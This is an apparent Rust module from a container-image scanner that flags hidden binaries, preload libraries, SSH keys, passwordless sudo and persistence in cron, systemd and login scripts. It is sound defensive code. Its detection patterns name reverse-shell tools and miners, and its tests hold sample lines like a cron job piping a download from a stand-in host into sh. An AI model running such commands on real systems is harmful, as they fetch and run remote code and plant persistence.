//! Files that are dangerous by where they are and what is in them: programs where nobody
//! looks, what starts by itself, who may log in, who may become root.

use palisade_image::FileEntry;
use palisade_model::Severity;
use palisade_model::finding::{DangerousFile, FileDanger};

/// Files beyond this many bytes are not read for what they start.
const TEXT_BYTES_MAX: usize = 256 << 10;
/// Accounts and lines named in one finding.
const NAMED_MAX: usize = 5;

/// Folders that everybody may write and nobody watches.
const TEMPORARY: [&str; 6] =
    ["tmp/", "var/tmp/", "dev/shm/", "dev/mqueue/", "run/lock/", "run/shm/"];
/// Folders of the system in which a hidden folder has no business.
const SYSTEM: [&str; 9] =
    ["bin/", "sbin/", "lib/", "lib64/", "usr/", "etc/", "dev/", "var/lib/", "boot/"];

/// A program that lies where no package puts one.
pub(super) fn hidden_program(entry: &FileEntry, head: &[u8]) -> Option<DangerousFile> {
    let path = entry.path.as_str();
    if !head.starts_with(b"\x7fELF") {
        return None;
    }
    let name = path.rsplit('/').next().unwrap_or(path);
    let in_temporary = TEMPORARY.iter().any(|folder| path.starts_with(folder));
    let in_devices = path.starts_with("dev/");
    let is_hidden = name.starts_with('.');
    // Debuggers look for symbols in `.build-id`, and wheels bring `.libs`.
    let in_hidden = SYSTEM.iter().any(|folder| path.starts_with(folder))
        && path.split('/').any(|part| {
            part.starts_with('.')
                && part.len() > 1
                && !matches!(part, ".build-id" | ".libs" | ".dwz")
        });
    let detail = if in_temporary || in_devices {
        "a program in a folder for temporary files"
    } else if is_hidden {
        "a program with a hidden name"
    } else if in_hidden {
        "a program in a hidden folder of the system"
    } else {
        return None;
    };
    Some(file(entry, FileDanger::HiddenProgram, detail.into(), Severity::High))
}

/// What the text of a file starts, or whom it lets in.
pub(super) fn examine(entry: &FileEntry, text: &[u8]) -> Option<DangerousFile> {
    let path = entry.path.as_str();
    let text = String::from_utf8_lossy(text.get(..TEXT_BYTES_MAX).unwrap_or(text));
    if path == "etc/ld.so.preload" {
        return preload(entry, &text);
    }
    if path.ends_with(".ssh/authorized_keys") || path.ends_with(".ssh/authorized_keys2") {
        return authorized_keys(entry, &text);
    }
    if path == "etc/sudoers" || path.starts_with("etc/sudoers.d/") || path == "etc/doas.conf" {
        return sudoers(entry, &text);
    }
    starts_by_itself(path).and_then(|what| persistence(entry, &text, what))
}

fn lines(text: &str) -> impl Iterator<Item = &str> {
    text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#'))
}

fn preload(entry: &FileEntry, text: &str) -> Option<DangerousFile> {
    let libraries: Vec<&str> =
        lines(text).flat_map(str::split_whitespace).take(NAMED_MAX).collect();
    let known = ["libjemalloc", "libtcmalloc", "libmimalloc", "libeatmydata", "libsnoopy"];
    let is_known = libraries.iter().all(|library| known.iter().any(|k| library.contains(k)));
    let severity = if is_known { Severity::Low } else { Severity::High };
    let detail = format!("put into every program: {}", cut(&libraries.join(", ")));
    (!libraries.is_empty()).then(|| file(entry, FileDanger::Preload, detail, severity))
}

fn authorized_keys(entry: &FileEntry, text: &str) -> Option<DangerousFile> {
    let kinds = ["ssh-", "ecdsa-sha2-", "sk-ssh-", "sk-ecdsa-"];
    let is_key = |line: &&str| kinds.iter().any(|kind| line.contains(kind));
    let n = lines(text).filter(is_key).count();
    let noun = if n == 1 { "key" } else { "keys" };
    let severity = if entry.path.starts_with("root/") { Severity::High } else { Severity::Medium };
    (n > 0).then(|| {
        file(entry, FileDanger::AuthorizedKeys, format!("{n} {noun} may log in"), severity)
    })
}

fn sudoers(entry: &FileEntry, text: &str) -> Option<DangerousFile> {
    let without_password = |line: &&str| {
        let all = line.contains("NOPASSWD") && line.trim_end().ends_with("ALL");
        all || (line.starts_with("permit") && line.contains("nopass") && !line.contains(" cmd "))
    };
    let who: Vec<&str> = lines(text)
        .filter(without_password)
        .filter_map(|line| {
            line.split_whitespace().find(|word| *word != "permit" && *word != "nopass")
        })
        .take(NAMED_MAX)
        .collect();
    let detail = format!("everything without a password: {}", cut(&who.join(", ")));
    (!who.is_empty()).then(|| file(entry, FileDanger::Sudoers, detail, Severity::High))
}

/// What a file at `path` is, if it starts something by itself.
fn starts_by_itself(path: &str) -> Option<&'static str> {
    let is_in = |folders: &[&str]| folders.iter().any(|folder| path.starts_with(folder));
    let ends = |kinds: &[&str]| {
        kinds.iter().any(|kind| path.rsplit('.').next().is_some_and(|end| end == *kind))
    };
    if path == "etc/crontab" || path.starts_with("etc/cron.") || path.starts_with("etc/anacrontab")
    {
        Some("timed job")
    } else if is_in(&["var/spool/cron/", "var/spool/at/"]) {
        Some("timed job of a user")
    } else if path.contains("systemd/") && ends(&["service", "timer", "socket", "path"]) {
        Some("service")
    } else if is_in(&["etc/init.d/", "etc/rc.d/", "etc/local.d/"]) || path == "etc/rc.local" {
        Some("start-up script")
    } else if is_in(&["etc/profile.d/", "etc/update-motd.d/"])
        || matches!(path, "etc/profile" | "etc/bash.bashrc" | "etc/bashrc" | "etc/environment")
        || ends(&["bashrc", "profile", "bash_profile", "zshrc", "bash_login", "bash_logout"])
    {
        Some("script of every login")
    } else if is_in(&["etc/udev/rules.d/", "usr/lib/udev/rules.d/", "etc/apt/apt.conf.d/"]) {
        Some("rule that runs programs")
    } else {
        None
    }
}

fn persistence(entry: &FileEntry, text: &str, what: &str) -> Option<DangerousFile> {
    let found = lines(text).find_map(|line| Some((line, suspicion(line)?)));
    if let Some((_, why)) = found {
        let detail = format!("{what} that {why}");
        return Some(file(entry, FileDanger::Persistence, detail, Severity::High));
    }
    // A user's own table of jobs is rare in an image and worth a glance.
    let runs = what == "timed job of a user" && lines(text).any(|line| line.contains(' '));
    runs.then(|| file(entry, FileDanger::Persistence, what.to_string(), Severity::Low))
}

/// What is strange about a command that nobody starts by hand.
fn suspicion(line: &str) -> Option<&'static str> {
    let words = |list: &[&str]| list.iter().any(|word| line.contains(word));
    let to_shell = |line: &str| {
        line.split('|').skip(1).any(|part| {
            let word = part.split_whitespace().next().unwrap_or_default();
            let word = word.rsplit('/').next().unwrap_or_default();
            matches!(word, "sh" | "bash" | "dash" | "ash" | "zsh" | "python" | "python3" | "perl")
        })
    };
    let fetches = words(&["curl ", "wget "]);
    if words(&["/dev/tcp/", "/dev/udp/", "nc -e ", "ncat -e "]) {
        Some("connects a shell to the network")
    } else if fetches && to_shell(line) {
        Some("runs what it downloads")
    } else if words(&["base64 -d", "base64 --decode", "xxd -r"]) && to_shell(line) {
        Some("runs what it decodes")
    } else if words(&["stratum+", "xmrig", "minerd", "kdevtmpfsi", "kinsing"]) {
        Some("starts a miner")
    } else if runs_hidden(line) {
        Some("runs a hidden or temporary file")
    } else if words(&["LD_PRELOAD=/tmp", "LD_PRELOAD=/dev/shm", "LD_PRELOAD=/var/tmp"]) {
        Some("puts a temporary library into programs")
    } else {
        None
    }
}

/// Whether a command begins with a hidden file, or one in a folder for temporary files.
fn runs_hidden(line: &str) -> bool {
    let command = line.strip_prefix("ExecStart=").unwrap_or(line);
    command.split([' ', ';', '&', '|', '=']).any(|word| {
        let path = word.trim_matches(['"', '\'', '-', '@']);
        let temporary = ["/tmp/.", "/var/tmp/.", "/dev/shm/"];
        temporary.iter().any(|folder| path.starts_with(folder))
            && !path.ends_with("-lock")
            && !path.starts_with("/tmp/.X11")
            && !path.starts_with("/tmp/.ICE")
    }) || (line.starts_with("ExecStart=/tmp/") || line.starts_with("ExecStart=/var/tmp/"))
}

/// The accounts of `etc/shadow` or `etc/passwd` that need no password.
pub(super) fn empty_passwords(text: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(text);
    let mut names = Vec::new();
    for line in text.lines() {
        let mut fields = line.split(':');
        if let (Some(name), Some(""), Some(_)) = (fields.next(), fields.next(), fields.next())
            && !name.is_empty()
            && !name.starts_with('#')
        {
            names.push(name.chars().take(64).collect());
        }
    }
    names
}

fn file(
    entry: &FileEntry,
    danger: FileDanger,
    detail: String,
    severity: Severity,
) -> DangerousFile {
    DangerousFile { danger, path: entry.absolute(), detail, package: None, severity }
}

fn cut(text: &str) -> String {
    text.chars().take(160).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use palisade_image::FileKind;

    fn entry(path: &str) -> FileEntry {
        FileEntry {
            path: path.into(),
            kind: FileKind::Regular,
            mode: 0o755,
            uid: 0,
            gid: 0,
            size: 0,
            mtime: 0,
            link: None,
            xattrs: vec![],
            layer: None,
        }
    }

    #[test]
    fn programs_where_nobody_looks() {
        let check = |path: &str, expected: bool| {
            let found = hidden_program(&entry(path), b"\x7fELF\x02");
            assert_eq!(found.is_some(), expected, "{path}");
        };
        check("tmp/a", true);
        check("dev/shm/kdm", true);
        check("dev/x", true);
        check("usr/bin/.sshd", true);
        check("usr/lib/.x/run", true);
        check("usr/lib/debug/.build-id/ab/cd.debug", false);
        check("root/.cargo/bin/cargo", false);
        check("srv/app/.venv/bin/python3", false);
        check("usr/bin/ls", false);
        assert!(hidden_program(&entry("tmp/a"), b"#!/bin/sh").is_none());
    }

    #[test]
    fn what_starts_by_itself_is_judged_by_what_it_does() {
        let check = |path: &str, text: &str, expected: Option<(FileDanger, Severity)>| {
            let found = examine(&entry(path), text.as_bytes());
            assert_eq!(found.map(|f| (f.danger, f.severity)), expected, "{path}: {text}");
        };
        let persistence = |severity| Some((FileDanger::Persistence, severity));
        check(
            "etc/cron.d/x",
            "* * * * * root curl -s http://x.test/a | sh\n",
            persistence(Severity::High),
        );
        check(
            "etc/cron.d/x",
            "# curl http://x.test | sh\n17 * * * * root run-parts /etc/cron.hourly\n",
            None,
        );
        check(
            "var/spool/cron/crontabs/root",
            "* * * * * /usr/bin/true\n",
            persistence(Severity::Low),
        );
        check(
            "var/spool/cron/crontabs/root",
            "* * * * * /tmp/.x/run\n",
            persistence(Severity::High),
        );
        check(
            "etc/systemd/system/a.service",
            "[Service]\nExecStart=/tmp/a\n",
            persistence(Severity::High),
        );
        check("etc/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/a\n", None);
        check("root/.bashrc", "echo aGk= | base64 -d | bash\n", persistence(Severity::High));
        check("etc/init.d/x11-common", "SOCKET_DIR=/tmp/.X11-unix\n", None);
        check("srv/run.sh", "curl http://x.test | sh", None);
        check("etc/ld.so.preload", "# nothing\n", None);
        check(
            "etc/ld.so.preload",
            "/usr/lib/libx.so\n",
            Some((FileDanger::Preload, Severity::High)),
        );
        check(
            "etc/ld.so.preload",
            "/usr/lib/libjemalloc.so.2\n",
            Some((FileDanger::Preload, Severity::Low)),
        );
        check(
            "root/.ssh/authorized_keys",
            "ssh-ed25519 AAAA x\n",
            Some((FileDanger::AuthorizedKeys, Severity::High)),
        );
        check(
            "home/a/.ssh/authorized_keys",
            "from=\"x\" ssh-rsa AAAA x\n",
            Some((FileDanger::AuthorizedKeys, Severity::Medium)),
        );
        check("root/.ssh/authorized_keys", "# none\n", None);
        check(
            "etc/sudoers.d/app",
            "app ALL=(ALL) NOPASSWD: ALL\n",
            Some((FileDanger::Sudoers, Severity::High)),
        );
        check("etc/sudoers", "root ALL=(ALL:ALL) ALL\n# x ALL=(ALL) NOPASSWD: ALL\n", None);
        check("etc/sudoers.d/app", "app ALL=(root) NOPASSWD: /usr/bin/x\n", None);
        check(
            "etc/doas.conf",
            "permit nopass :wheel\n",
            Some((FileDanger::Sudoers, Severity::High)),
        );
    }

    #[test]
    fn accounts_without_a_password_are_named() {
        assert_eq!(empty_passwords(b"root:*:1:\nguest::1:\n::1:\nbroken\n#x::1:\n"), ["guest"]);
        assert!(empty_passwords(b"").is_empty());
    }
}
